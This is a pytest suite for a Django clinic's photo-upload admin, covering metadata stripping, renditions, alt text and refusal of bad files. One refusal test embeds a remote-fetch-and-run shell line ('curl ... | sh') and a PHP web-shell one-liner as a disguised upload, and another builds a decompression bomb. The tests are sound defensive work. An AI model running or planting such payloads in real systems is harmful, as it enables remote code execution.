"""Photos staff upload: checked by content, stored with nothing but pixels, shown from renditions made once."""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.loader import render_to_string
from django.urls import reverse
from PIL import ExifTags, Image
from pytest_django.asserts import assertContains

from clinic import pictures
from clinic.models import Picture

CAMERA = "ClinicCam 3000"
GPS = {  # Zona Río, Tijuana
    ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (32.0, 31.0, 45.0),
    ExifTags.GPS.GPSLongitudeRef: "W", ExifTags.GPS.GPSLongitude: (117.0, 1.0, 12.0),
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media):
    return sorted(path for path in Path(media).rglob("*") if path.is_file())


def photo_exif(orientation=1):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = GPS
    return exif


def scene(size):
    """A photo-like image: left half red, right half blue, so orientation and crops show."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (size[0] // 2, 0, size[0], size[1]))
    return image


def jpeg_with_gps(size=(1800, 1200), orientation=1):
    output = io.BytesIO()
    scene(size).save(output, "JPEG", quality=85, exif=photo_exif(orientation).tobytes())
    return output.getvalue()


def form_data(image, name="IMG_0001.jpg", **fields):
    return {
        "image": SimpleUploadedFile(name, image, content_type="image/jpeg"),
        "alt_text_en": "Ana guiding a runner through a single-leg squat",
        "alt_text_es": "Ana guía a un corredor en una sentadilla a una pierna",
        "caption_en": "", "caption_es": "", "focal_x": "50", "focal_y": "30", "position": "0",
        **fields,
    }


def upload(client, image, **fields):
    return client.post(reverse("admin:clinic_picture_add"), form_data(image, **fields))


def test_the_test_photo_really_carries_gps_and_camera_details():
    with Image.open(io.BytesIO(jpeg_with_gps())) as image:
        exif = image.getexif()
        assert exif[ExifTags.Base.Make] == CAMERA
        assert exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"


def assert_nothing_but_pixels(path):
    data = path.read_bytes()
    assert CAMERA.encode() not in data, path
    assert b"Exif\x00\x00" not in data, path
    with Image.open(path) as image:
        image.load()
        assert not image.getexif(), path
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment"} & set(image.info), (path, image.info)


def test_uploaded_photo_with_gps_is_stored_upright_without_any_metadata_in_original_and_renditions(editor_client, media):
    # Orientation 6: the camera was turned; the pixels are stored turned upright.
    response = upload(editor_client, jpeg_with_gps(size=(1800, 1200), orientation=6))

    assert response.status_code == 302, response.content.decode()[:3000]
    picture = Picture.objects.get()
    assert (picture.width, picture.height) == (1200, 1800)
    assert picture.image.name.startswith("pictures/") and "IMG_0001" not in picture.image.name
    files = stored_files(media)
    renditions = [path for path in files if "renditions" in path.parts]
    assert len(files) == 1 + len(renditions)
    assert len(renditions) == len(pictures.RENDITION_FORMATS) * len(pictures.RENDITION_WIDTHS)
    assert {path.suffix for path in renditions} == {".avif", ".webp", ".jpg"}
    for path in files:
        assert_nothing_but_pixels(path)
    with Image.open(media / picture.image.name) as original:
        assert original.format == "JPEG" and original.size == (1200, 1800)
        # Upright: after the quarter turn, red (the photo's left) is on top.
        assert original.getpixel((600, 100))[0] > 150 and original.getpixel((600, 1700))[2] > 150


def test_iphone_heic_photo_is_accepted_and_stored_as_jpeg_without_its_location(editor_client, media):
    from pillow_heif import from_pillow

    heif = from_pillow(scene((1000, 750)))
    output = io.BytesIO()
    heif.save(output, format="HEIF", exif=photo_exif().tobytes())
    assert CAMERA.encode() in output.getvalue()

    response = upload(editor_client, output.getvalue(), name="IMG_0042.HEIC")

    assert response.status_code == 302, response.content.decode()[:3000]
    picture = Picture.objects.get()
    assert picture.image.name.endswith(".jpg") and (picture.width, picture.height) == (1000, 750)
    for path in stored_files(media):
        assert_nothing_but_pixels(path)


def assert_refused(response, message, media):
    assert response.status_code == 200
    assertContains(response, message)
    assert not Picture.objects.exists()
    assert stored_files(media) == []


def test_decompression_bomb_is_refused_with_a_message_and_nothing_is_stored(editor_client, media):
    # 400 megapixels that compress to a few kilobytes: gigabytes in memory once decoded.
    output = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(output, "PNG")
    assert len(output.getvalue()) < 200_000

    response = upload(editor_client, output.getvalue(), name="bomb.png")

    assert_refused(response, "megapixels", media)


def test_photo_over_the_pixel_limit_is_refused_before_it_is_decoded(editor_client, media, monkeypatch):
    monkeypatch.setattr(pictures, "MAX_UPLOAD_PIXELS", 1_000_000)

    response = upload(editor_client, jpeg_with_gps(size=(1500, 1000)))

    assert_refused(response, "This photo is 1500 × 1000 pixels; it can have at most 1 megapixels.", media)


def test_script_renamed_as_a_photo_is_refused_with_a_message_and_nothing_is_stored(editor_client, media):
    script = b"#!/bin/sh\ncurl https://example.com/x | sh\n<?php system($_GET['c']); ?>\n"

    response = upload(editor_client, script, name="team-photo.jpg")

    assert_refused(response, "This file is not a JPEG, PNG, WebP or HEIC photo.", media)


def test_truncated_photo_is_refused_with_a_message_and_nothing_is_stored(editor_client, media):
    photo = jpeg_with_gps()

    response = upload(editor_client, photo[: len(photo) // 2], name="cut-short.jpg")

    assert_refused(response, "This photo is damaged or incomplete", media)


def test_gif_is_refused_as_a_format_we_do_not_take(editor_client, media):
    output = io.BytesIO()
    scene((200, 100)).save(output, "GIF")

    response = upload(editor_client, output.getvalue(), name="animated.gif")

    assert_refused(response, "This file is not a JPEG, PNG, WebP or HEIC photo.", media)


def test_file_over_the_byte_limit_is_refused(editor_client, media, monkeypatch):
    monkeypatch.setattr(pictures, "MAX_UPLOAD_BYTES", 10_000)

    response = upload(editor_client, jpeg_with_gps())

    assert_refused(response, "a photo can be at most", media)


def test_alt_text_in_both_languages_is_required_unless_the_photo_is_decorative(editor_client, media):
    response = upload(editor_client, jpeg_with_gps(), alt_text_en="", alt_text_es=" ")

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert set(errors) == {"alt_text_en", "alt_text_es"}
    assertContains(response, "Describe what the photo shows, or tick “decorative”", count=2)
    assert not Picture.objects.exists() and stored_files(media) == []

    response = upload(editor_client, jpeg_with_gps(), alt_text_en="", alt_text_es="", is_decorative="on")

    assert response.status_code == 302
    assert Picture.objects.get().is_decorative


def test_transparent_png_stays_png_and_its_jpeg_rendition_is_on_white(editor_client, media):
    logo = Image.new("RGBA", (800, 400), (0, 0, 0, 0))
    logo.paste((14, 90, 98, 255), (0, 0, 400, 400))
    output = io.BytesIO()
    logo.save(output, "PNG")

    response = upload(editor_client, output.getvalue(), name="logo.png")

    assert response.status_code == 302
    picture = Picture.objects.get()
    assert picture.image.name.endswith(".png")
    jpeg = next(path for path in stored_files(media) if path.suffix == ".jpg")
    with Image.open(jpeg) as rendition:
        assert rendition.getpixel((rendition.width - 5, 5)) >= (250, 250, 250)


def test_renditions_are_made_once_and_reused(editor_client, media):
    upload(editor_client, jpeg_with_gps())
    picture = Picture.objects.get()
    made = {path: path.stat().st_mtime_ns for path in stored_files(media)}

    picture.caption = "The gym"
    picture.save()
    render_to_string("includes/picture.html", {"picture": picture, "sizes": "100vw"})

    assert {path: path.stat().st_mtime_ns for path in stored_files(media)} == made
    assert pictures.make_renditions(picture) == 0


def test_missing_renditions_are_made_again(editor_client, media):
    upload(editor_client, jpeg_with_gps())
    picture = Picture.objects.get()
    renditions = [path for path in stored_files(media) if "renditions" in path.parts]
    renditions[0].unlink()

    assert pictures.make_renditions(picture) == 1
    assert renditions[0].exists()


def test_replacing_or_deleting_a_photo_removes_its_files(editor_client, media, django_capture_on_commit_callbacks):
    upload(editor_client, jpeg_with_gps())
    picture = Picture.objects.get()
    first = set(stored_files(media))

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            reverse("admin:clinic_picture_change", args=[picture.pk]), form_data(jpeg_with_gps(size=(900, 600)))
        )
    assert response.status_code == 302
    second = set(stored_files(media))
    assert second and not first & second

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(reverse("admin:clinic_picture_delete", args=[picture.pk]), {"post": "yes"})
    assert response.status_code == 302
    assert stored_files(media) == []


def test_picture_is_shown_in_several_widths_and_formats_with_its_size_and_focal_point(editor_client):
    upload(editor_client, jpeg_with_gps(size=(1200, 800)), focal_x="80", focal_y="10")
    picture = Picture.objects.get()

    html = render_to_string("includes/picture.html", {"picture": picture, "sizes": "(min-width: 48em) 50vw, 100vw"})

    assert html.count("<source") == 2
    assert 'type="image/avif"' in html and 'type="image/webp"' in html
    assert " 360w, " in html and " 720w, " in html and " 1080w, " in html and " 1200w" in html
    assert " 1600w" not in html  # never offered wider than the photo
    assert 'width="1200" height="800"' in html
    assert 'loading="lazy"' in html 
    assert "focal-x75 focal-y0" in html
    assert 'alt="Ana guiding a runner through a single-leg squat"' in html
    assert "style=" not in html

    eager = render_to_string("includes/picture.html", {"picture": picture, "eager": True})
    assert "loading=" not in eager


def test_decorative_picture_has_empty_alt_text(editor_client):
    upload(editor_client, jpeg_with_gps(), is_decorative="on")

    html = render_to_string("includes/picture.html", {"picture": Picture.objects.get()})

    assert 'alt=""' in html


def test_clinic_editors_may_upload_change_and_delete_pictures(editor):
    assert all(editor.has_perm(f"clinic.{action}_picture") for action in ("view", "add", "change", "delete"))


def test_picture_list_in_the_admin_shows_thumbnails(editor_client):
    upload(editor_client, jpeg_with_gps())

    response = editor_client.get(reverse("admin:clinic_picture_changelist"))

    assertContains(response, 'class="picture-preview"')


@pytest.mark.parametrize("size", [(6000, 8), (8, 6000)])
def test_a_strip_far_wider_or_taller_than_a_photo_is_refused_by_the_field_and_nothing_is_stored(
    editor_client, media, size
):
    # Stored at 2560 × 3, its narrowest renditions would be 0 pixels high.
    output = io.BytesIO()
    scene(size).save(output, "PNG")

    response = upload(editor_client, output.getvalue(), name="strip.png")

    assert_refused(response, f"This photo is {size[0]} × {size[1]} pixels: one side is more than 20 times", media)
    assert set(response.context["adminform"].form.errors) == {"image"}


def test_a_panorama_within_the_ratio_is_accepted(editor_client, media):
    response = upload(editor_client, jpeg_with_gps(size=(4000, 200)))

    assert response.status_code == 302
    assert (Picture.objects.get().width, Picture.objects.get().height) == (2560, 128)


def test_a_camera_sized_photo_is_stored_upright_at_the_stored_size_without_metadata(editor_client, media):
    # Twice the stored size and more: decoded straight at half size (JPEG draft mode), then made smaller still.
    response = upload(editor_client, jpeg_with_gps(size=(5200, 3900), orientation=6))

    assert response.status_code == 302
    picture = Picture.objects.get()
    assert (picture.width, picture.height) == (1920, 2560)
    with Image.open(media / picture.image.name) as original:
        assert original.getpixel((960, 100))[0] > 150 and original.getpixel((960, 2460))[2] > 150
    for path in stored_files(media):
        assert_nothing_but_pixels(path)


def test_a_camera_sized_photo_cut_short_is_refused_although_it_is_decoded_at_a_smaller_size(editor_client, media):
    photo = jpeg_with_gps(size=(5200, 3900))

    response = upload(editor_client, photo[: len(photo) * 3 // 4], name="cut-short.jpg")

    assert_refused(response, "This photo is damaged or incomplete", media)


def test_every_release_makes_the_renditions_a_deploy_needs():
    # Their names hash RENDITION_WIDTHS and RENDITION_FORMATS: a deploy that changes them needs new files.
    release = next(line for line in (Path(__file__).resolve().parents[2] / "Procfile").read_text().splitlines()
                   if line.startswith("release:"))

    assert "manage.py make_picture_renditions" in release
